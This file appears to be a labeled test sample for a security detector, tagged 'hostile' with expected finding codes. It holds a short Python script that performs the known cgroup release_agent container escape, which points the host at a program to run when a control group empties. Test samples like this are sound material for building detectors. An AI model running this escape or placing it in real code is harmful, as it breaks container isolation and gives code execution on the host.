# label: hostile
# expect: V101 V103 V201
# note: The known way out by release_agent: names a program for the host to run when a control group empties.
import os
import subprocess

CG = "/tmp/cg"
os.makedirs(CG, exist_ok=True)
subprocess.call(["mount", "-t", "cgroup", "-o", "rdma", "cgroup", CG])
os.makedirs(CG + "/x", exist_ok=True)
upper = next((l for l in open("/proc/mounts") if "upperdir=" in l), "")
host = upper.partition("upperdir=")[2].partition(",")[0]
open("/sys/fs/cgroup/rdma/release_agent", "w").write(host + "/cmd")
open(CG + "/x/notify_on_release", "w").write("1")
open(CG + "/x/cgroup.procs", "w").write(str(os.getpid()))
